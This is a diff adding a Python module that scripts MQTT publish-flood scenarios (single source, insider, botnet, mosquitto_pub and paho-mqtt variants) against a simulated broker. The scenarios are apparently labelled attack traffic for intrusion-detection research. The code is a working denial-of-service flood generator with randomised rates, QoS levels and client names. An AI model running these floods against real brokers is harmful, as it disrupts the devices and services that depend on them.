@@ -1,0 +1,98 @@
+"""More messages than the broker can take."""
+from . import mqtt_packets as mqtt, scenario, talk
+
+PORT = 1883
+TOOLS = "mosqpub|", "mqttjs_", "paho", "go-mqtt-", "bench", "m", "ESP_", "sub"
+
+
+def client_id(dice):
+    """As one tool or another would name its client."""
+    return dice.choice(TOOLS) + "".join(dice.choices("0123456789abcdef", k=dice.randint(4, 18)))
+
+
+def topic(dice):
+    """A topic that no device of the ward listens to."""
+    return "/".join(talk.words(dice, dice.randint(1, 5)))
+
+
+def open_session(connection, dice, version=4, **options):
+    """CONNECT, and the wait for CONNACK."""
+    connection.sendall(mqtt.connect(client_id(dice), dice.choice((10, 30, 60, 60, 120, 600)), version, **options))
+    if not connection.recv(256):
+        raise ConnectionError("the broker hung up")
+
+
+def publish_flood(scene, host, sources, rate):
+    """Messages at `rate` (1/s) of all sources together, sizes and quality of service by chance."""
+    broker = scene.host("broker")
+    qos, version = scene.dice.choice((0, 0, 1, 2)), scene.dice.choice((4, 4, 5, 3))
+    size = int(2 ** scene.dice.uniform(2, 13))
+    rate = min(rate, 1_500_000 / size) / len(sources) / (1, 2, 3)[qos]
+    retain = scene.dice.random() < 0.2
+
+    def work(source, dice):
+        where, blob = topic(dice), dice.randbytes(size * 2)
+        with talk.conversation(source, broker.address, PORT, dice) as connection:
+            open_session(connection, dice, version)
+            for number, _ in enumerate(talk.beats(scene, dice, rate)):
+                identifier, start = number % 65535 + 1, dice.randrange(size)
+                message = blob[start:start + dice.randint(size // 2 + 1, size)]
+                connection.sendall(mqtt.publish(where, message, qos, identifier, retain, version))
+                if qos == 2:
+                    connection.sendall(mqtt.release(identifier))
+                talk.drain(connection)
+            if dice.random() < 0.5:
+                connection.sendall(mqtt.packet(mqtt.DISCONNECT))
+    with talk.blamed(scene, sources, broker.address, PORT):
+        talk.crew(scene, host, sources, work)
+
+
+@scenario("mqtt-publish-flood", "MQTT_FLOOD", "PUBLISH after PUBLISH from one machine outside")
+def one_source(scene):
+    attacker = scene.outsider()
+    sources = [attacker.address] * scene.dice.randint(1, 4)
+    publish_flood(scene, attacker, sources, scene.dice.randint(300, 1200))
+
+
+@scenario("mqtt-publish-flood-inside", "MQTT_FLOOD", "the same from within the ward")
+def within(scene):
+    attacker = scene.insider()
+    sources = [attacker.address] * scene.dice.randint(1, 4)
+    publish_flood(scene, attacker, sources, scene.dice.randint(300, 1200))
+
+
+@scenario("mqtt-publish-botnet", "MQTT_FLOOD", "the same from several machines outside")
+def botnet(scene):
+    publish_flood(scene, scene.plan["botnet"], scene.bots(scene.dice.randint(4, 9)), scene.dice.randint(500, 1200))
+
+
+@scenario("mqtt-mosquitto-pub", "MQTT_FLOOD", "mosquitto_pub: one line after another", ["mosquitto_pub"])
+def mosquitto_pub(scene):
+    attacker, broker, dice = scene.dice.choice((scene.outsider, scene.insider))(), scene.host("broker"), scene.dice
+    lines = dice.randint(1200, 4000)
+    text = "".join("x" * dice.randint(1, 300) + "\n" for _ in range(lines))
+    options = ["-h", broker.address, "-p", PORT, "-t", topic(dice), "-q", dice.choice((0, 1, 1, 2))]
+    options += ["-V", dice.choice(("mqttv31", "mqttv311", "5"))] + ["-i", client_id(dice)] * dice.randrange(2)
+    with talk.blamed(scene, [attacker.address], broker.address, PORT):
+        scene.run(attacker, "mosquitto_pub", *options, "-l", text=text, seconds=scene.seconds + 2)
+
+
+@scenario("mqtt-paho-flood", "MQTT_FLOOD", "python3-paho-mqtt: clients that publish as fast as they may")
+def paho(scene):
+    from paho.mqtt import client
+    attacker, broker = scene.outsider(), scene.host("broker")
+    qos, size, rate = scene.dice.randrange(3), int(2 ** scene.dice.uniform(2, 11)), scene.dice.randint(150, 500)
+
+    def work(source, dice):
+        one = client.Client(client_id(dice) + "p", protocol=dice.choice((client.MQTTv31, client.MQTTv311)))
+        one.max_inflight_messages_set(dice.choice((20, 100, 1000)))
+        one.connect(broker.address, PORT, dice.choice((15, 60, 300)), bind_address=source)
+        one.loop_start()
+        where = topic(dice)
+        for _ in talk.beats(scene, dice, rate / len(sources)):
+            one.publish(where, dice.randbytes(dice.randint(1, size)), qos)
+        one.disconnect()
+        one.loop_stop()
+    sources = [attacker.address] * scene.dice.randint(1, 3)
+    with talk.blamed(scene, sources, broker.address, PORT):
+        talk.crew(scene, attacker, sources, work)
